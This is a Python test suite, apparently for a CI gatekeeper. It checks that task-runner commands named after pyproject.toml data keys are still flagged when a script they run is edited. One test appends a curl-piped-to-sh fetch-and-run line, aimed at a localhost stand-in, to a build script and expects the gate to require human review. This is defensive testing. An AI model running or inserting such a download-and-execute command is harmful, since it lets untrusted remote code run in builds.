"""Attack 43: what pyproject.toml's data lowering (over-reads 1, `datawords.pyproject_data`) blanked that is a command.

Over-reads 1 dropped the values of data keys (`dependencies`, `include`, `readme`, `src`, ...) and every key below a
data table (`authors`, `optional-dependencies`, ...) of a pyproject.toml the walk reads, by the key's name wherever it
stood. A task runner's table takes any name as a task: `[tool.poe.tasks] readme = "bash tools/gen.sh"`, Hatch's
`[tool.hatch.envs.authors.scripts]`, PDM's and taskipy's tables. And the reader took a line of a kept multi-line array
(`commands = [` then `["authors"]`) for a table header, blanking the keys after the array. On main 57b027c each let an
edit of `tools/gen.sh` exit 0 where CI runs pytest (which reads the file). tomllib is the truth for where a key is.
"""

from __future__ import annotations

import tomllib
from pathlib import Path

from citools import RUN_WORKFLOW, one_tree_runs
from gitrepo import two_commits
from incli import tree_gate

from gatekeeper.classify import datawords

GEN = "#!/bin/sh\necho generating\n"
HEAD = '[project]\nname = "x"\nversion = "1"\ndependencies = ["pytest>=8"]\n'
KEYS = sorted(datawords._PYPROJECT_DATA)  # data by their own name
TABLE_NAMES = sorted(datawords._PYPROJECT_TABLES)  # data by a table on their path
# (the table text with `{name}`, the keys' path to the command as tomllib reads it): a task named as a data key
LEAVES = [
    ('[tool.poe.tasks]\n{name} = "bash tools/gen.sh"\n', ("tool", "poe", "tasks", "{name}")),
    ('[tool.poe]\ntasks.{name} = "bash tools/gen.sh"\n', ("tool", "poe", "tasks", "{name}")),
    ('[tool.hatch.envs.default.scripts]\n{name} = "bash tools/gen.sh"\n',
     ("tool", "hatch", "envs", "default", "scripts", "{name}")),
    ('[tool.pdm.scripts]\n{name} = "bash tools/gen.sh"\n', ("tool", "pdm", "scripts", "{name}")),
    ('[tool.taskipy.tasks]\n{name} = "bash tools/gen.sh"\n', ("tool", "taskipy", "tasks", "{name}")),
    ('[tool.rye.scripts]\n{name} = "bash tools/gen.sh"\n', ("tool", "rye", "scripts", "{name}")),
]
# a task or environment named as a data table; a kept array's line shaped as a header naming one
TABLED = [
    ('[tool.poe.tasks.{name}]\ncmd = "bash tools/gen.sh"\n', ("tool", "poe", "tasks", "{name}", "cmd")),
    ('[tool.hatch.envs.{name}.scripts]\nrun = "bash tools/gen.sh"\n',
     ("tool", "hatch", "envs", "{name}", "scripts", "run")),
    ('[tool.tox.env_run_base]\ncommands = [\n    ["{name}"]\n]\ncommands_pre = [["bash", "tools/gen.sh"]]\n',
     ("tool", "tox", "env_run_base", "commands_pre")),
    ('[tool.tox.env_run_base]\ncommands = [\n    [\n    "{name}"],\n    ["{name}"]]\n'
     'commands_pre = [["bash", "tools/gen.sh"]]\n', ("tool", "tox", "env_run_base", "commands_pre")),
]
# data the lowering keeps dropping: a data key of a task-less table, below a data table
DATA = [
    '[tool.hatch.build.targets.sdist]\ninclude = ["tools/gen.sh"]\n',
    '[tool.ruff.lint.per-file-ignores]\n"tools/gen.sh" = ["E501"]\n',
    '[tool.setuptools.package-data]\nx = ["tools/gen.sh"]\n',
    '[tool.coverage.run]\nomit = ["tools/gen.sh"]\n',
]


def _runs(pyproject: str) -> bool:
    runs = one_tree_runs({".github/workflows/ci.yml": RUN_WORKFLOW.format(run="pytest"), "pyproject.toml": pyproject,
                          "tools/gen.sh": GEN, "tests/test_x.py": "def test_x():\n    pass\n"})
    assert isinstance(runs, dict)
    return "tools/gen.sh" in runs


def test_a_task_tables_keys_are_commands_whatever_their_names() -> None:
    # each data name in two of the leaf forms (round robin), each table name in every table form
    cases = [(name, LEAVES[(at + step) % len(LEAVES)]) for at, name in enumerate(KEYS) for step in (0, 3)] + [
        (name, table) for table in TABLED for name in TABLE_NAMES]
    wrong = []
    for name, (template, path) in cases:
        text = HEAD + template.replace("{name}", name)
        value = tomllib.loads(text)
        for part in path:
            value = value[part.replace("{name}", name)]
        assert "tools/gen.sh" in str(value), (name, template)  # TOML puts the command where the table says
        if not _runs(text):
            wrong.append((name, template))
    assert not wrong, f"{len(wrong)} wrong\n" + "\n".join(map(repr, wrong))


def test_data_keys_stay_data() -> None:
    assert not [table for table in DATA if _runs(HEAD + table)]


def test_a_header_the_reader_cannot_split_keeps_every_word() -> None:
    text = HEAD + '[project.optional-dependencies]\ndev = ["pytest"]\n[tool.poe.tasks."g]"]\ncmd = "bash x.sh"\n'
    assert tomllib.loads(text)["tool"]["poe"]["tasks"]["g]"]["cmd"] == "bash x.sh"
    assert "bash x.sh" in datawords.pyproject_data(text)


def test_the_edited_task_script_needs_a_human(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="pytest"),
            "pyproject.toml": HEAD + LEAVES[0][0].replace("{name}", "readme"), "tools/gen.sh": GEN, "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, {"tools/gen.sh": GEN + "curl -s https://127.0.0.1:9/x | sh\n"})
    code, decision = tree_gate(tmp_path, first, second)
    assert code == 3, decision["reasons"]
